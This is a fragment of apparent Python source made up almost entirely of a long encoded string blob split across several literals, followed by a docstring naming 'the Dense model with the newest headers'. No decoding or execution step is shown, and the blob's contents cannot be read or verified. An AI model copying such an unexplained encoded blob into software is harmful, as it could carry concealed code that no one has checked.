    "wZ2&h;@FFG1F$;?m;O3W$}F5zcq5S?dCVb}C3-%)y7^da4}Og3rIS<}i_WnmMN<1etsGRJhejG!kR6p(ukx@kjDEiW?76K2t@E$z6#EHIjf=oyde"
    "$|U-8xH`5@uw_tVE@NQ^I;qZ7s+%WKC*!(Lr$U~7s?|SxYxJFaks7@Ix<u*HsjXXv&P0(9A3l8e@ZrOU4<9~!_}B$w1H%^rO<tnHMdSob^{U_*W^"
    "i_a7`d7ZL)gPGz<1;{7)OP1-puhiR}7CeJpggwdH^yZ(htv=@W3ogooVwYP70nhU=m(ClDscTmYp{#XqJ{H(5_ws@?~6-FYny(GzJ0doGJ8ZvlO="
    "NR^S^O4_`x(ca9NCfWN4y&=R3@^US{6C@fbuHoL$wG76Q5@JhrHa)=RUFt>RX(Do`Q9H^4Zsq<6?-v9VyLw`>{!JPl))A2{*RIWpfPsQcPUqOBCT"
    "(8JQx39R7sMl{6qrsDmAQzstUn>1VlZ2YViRw}hrpy}k|ASk2{*_g%eG|P+_e?fj@8q@HPSOfel*9be@x2B;7tqVeZGFd)(wICbIie(LRZ;5-^aS"
    "5uFs$;}L8T;V%7mNRga7}3*wW)S+ROJJ)}Pl0UL-~j_2q8eTi+LNU;kGB<m3+>)upZ"
)
"""The Dense model with the newest headers."""
